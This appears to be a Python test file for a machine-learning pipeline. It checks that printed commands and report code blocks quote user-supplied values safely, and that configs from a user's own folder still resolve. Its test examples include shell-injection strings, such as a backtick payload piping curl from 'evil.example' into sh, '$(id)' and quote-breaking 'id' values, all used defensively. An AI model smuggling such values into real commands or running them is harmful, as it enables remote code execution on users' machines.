"""Printed commands: a shell reads back exactly the words that were meant, whatever is in them."""

from __future__ import annotations

import os
import re
import shlex
import subprocess

import pytest
import yaml
from hydra.core.override_parser.overrides_parser import OverridesParser
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.config import compose, invocation
from pipeline.config.own_choices import keep_choices
from pipeline.config.printed_commands import format_command, quote_words
from pipeline.report.analysis import collect_results
from pipeline.report.escaping import code_block
from pipeline.report.markdown import markdown
from pipeline.tracking.summary import SweepSummary, TrialRecord
from tests.helpers.plugins import SOURCES, forget, no_plugins

__all__ = ["no_plugins"]

# What a file name may hold.
TEXTS = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=20)


@given(path=TEXTS)
@example(path="x`;curl evil.example|sh;`")
@example(path="$(id)")
@example(path="a'; id; '")
@example(path='a"b\\')
def test_what_a_command_names_is_one_word_that_hydra_reads_as_it_was(path):
    *command, override = shlex.split(format_command("sample", {"checkpoint": path}))
    assert command == ["python", "-m", "pipeline.sample"]
    [parsed] = OverridesParser.create().parse_overrides([override])
    # What Hydra takes for another type is no text that was printed.
    assert parsed.key_or_group == "checkpoint" and parsed.value() == path


@given(words=st.lists(TEXTS, min_size=1, max_size=3))
@example(words=["mlflow", "ui`id`", "$HOME", "\n# x"])
def test_another_programs_words_are_what_a_shell_reads(words):
    assert shlex.split(quote_words(*words)) == words
    assert shlex.split(quote_words("x", A=words[0])) == [f"A={words[0]}", "x"]


def test_a_shell_runs_nothing_of_what_a_command_names(tmp_path):
    path = f"`touch {tmp_path}/a`$(touch {tmp_path}/b);touch {tmp_path}/c;'"
    line = format_command("sample", {"checkpoint": path}).replace("python", "printf %s%.0s")
    subprocess.run(["bash", "-c", line], check=True, capture_output=True)
    assert not list(tmp_path.iterdir())


@given(lines=st.lists(TEXTS | st.sampled_from(["```", "````", "a`b", "`x` ``"]), max_size=4))
@example(lines=["```", "````sh"])
def test_no_line_ends_the_block_that_it_is_in(lines):
    first, *_, last = code_block(lines).split("\n")
    fence = first.removesuffix("sh")
    assert set(fence) == {"`"} and last == fence
    assert all(fence not in line for line in lines)


# Commands of an experiment of the user's own.


@pytest.fixture
def own_experiment(tmp_path):
    """A folder with an experiment of the user's own, whose file is not called as the experiment is."""
    folder = tmp_path / "my own" / "conf"
    folder.mkdir(parents=True)
    text = (compose.config_root() / "conf" / "lsun.yaml").read_text()
    (folder / "näher.yaml").write_text(re.sub(r"^name: .*$", "name: closer", text, flags=re.MULTILINE))
    yield folder.parent
    invocation.record(invocation.Invocation())


def printed_in(text):
    """The words of the command that a message quotes."""
    return shlex.split(re.search(r"python -m pipeline\.[^`\n]*", text)[0].partition(" data.source.url=<")[0])


def test_a_command_for_the_data_of_an_own_experiment_runs_as_printed(refused, call, own_experiment, tmp_path):
    line = refused("sweep", "--config-dir", "my own", "conf=näher", "data.store=a,b", "data.resolution=64", "seed=1")
    python, flag, module, *words = printed_in(line)
    assert (python, flag, module) == ("python", "-m", "pipeline.shards")
    assert words[:2] == ["--config-dir", str(own_experiment)]
    (tmp_path / "elsewhere").mkdir()
    os.chdir(tmp_path / "elsewhere")
    status, config, errors = call("shards", *words, "--cfg", "job")
    assert status == 0, errors
    values = yaml.safe_load(config)
    assert (values["name"], values["data"]["store"], values["data"]["resolution"]) == ("closer", "a,b", 64)
    assert values["seed"] == 0


def test_the_command_that_a_new_store_is_for_runs_as_printed(call, own_experiment):
    (own_experiment / "conf" / "näher.yaml").write_text((compose.config_root() / "conf" / "digits.yaml").read_text())
    words = ["--config-dir", "my own", "conf=näher", "data.store=new store"]
    status, printed, errors = call("shards", *words, "data.source.url=null")
    assert status == 0, errors
    _, _, module, *words = printed_in(printed)
    assert module == "pipeline.sweep" and "data.source.url" not in " ".join(words)
    status, config, errors = call("sweep", *words, "--cfg", "job")
    assert status == 0, errors
    assert yaml.safe_load(config)["data"]["store"] == "new store"


def test_the_command_that_a_new_store_is_for_has_the_experiments_name_and_plugins(call, tmp_path, no_plugins):
    (tmp_path / "mine.py").write_text(SOURCES)
    own = ["plugins=[./mine.py]", "name=gray squares", "data.source.kind=stripes"]
    status, printed, errors = call("shards", "conf=digits", *own, f"data.store={tmp_path}/squares", "seed=3")
    assert status == 0, errors
    assert printed.splitlines()[-1].startswith("train on it: ")
    _, _, module, *words = printed_in(printed)
    with pytest.MonkeyPatch.context() as patch:
        forget(patch)
        status, config, errors = call(module.removeprefix("pipeline."), *words, "--cfg", "job")
    values = yaml.safe_load(config)
    assert (status, values["name"], values["plugins"]) == (0, "gray squares", ["./mine.py"]), errors
    assert (values["data"]["source"]["kind"], values["data"]["store"]) == ("stripes", f"{tmp_path}/squares")
    assert values["seed"] == 0


def test_without_a_folder_of_ones_own_none_is_printed(refused):
    assert "--config-dir" not in refused("sweep", "conf=lsun")


def test_the_report_names_the_experiments_file_and_its_folder(call, own_experiment, small):
    record = TrialRecord("000", {"train.energy_lr": 1e-3}, status="finished")
    record.best_metrics, record.best_checkpoint = {"fid_gebm": 1.0, "base_step": 1}, "s/trials/000/checkpoints/1"
    facts = {"experiment": "closer", "measure": "FID", "conf": "näher", "config_dir": str(own_experiment)}
    shown = ("fid_base", "fid_gebm")
    records = SweepSummary("s", metric="fid_gebm", mode="min", shown=shown, facts=facts, trials=[record])
    assert "--config-dir" not in markdown(collect_results("s", records, {}), limit=None)
    keep_choices("s", small())
    block = markdown(collect_results("s", records, {}), limit=None).partition("```sh\n")[2].partition("```")[0]
    commands = [shlex.split(line) for line in block.replace("\\\n", "").splitlines() if line.startswith("python")]
    assert {command[2] for command in commands} >= {"pipeline.train", "pipeline.sample", "pipeline.sweep"}
    for _, _, module, *words in commands:
        status, config, errors = call(module.partition(".")[2], *words, "--cfg", "job")
        assert status == 0, errors
        assert module != "pipeline.train" or yaml.safe_load(config)["name"] == "closer"


@pytest.mark.parametrize("folder", ["{output}", "{output}/conf", "relative", "/a\nb", 3])
def test_a_folder_of_configs_that_came_with_the_results_is_not_named(tmp_path, folder):
    folder = folder.format(output=tmp_path) if isinstance(folder, str) else folder
    facts = {"experiment": "x", "config_dir": folder}
    records = SweepSummary(str(tmp_path), metric="fid_gebm", mode="min", shown=("fid_base", "fid_gebm"), facts=facts)
    assert collect_results(str(tmp_path), records, {}).config_dir is None
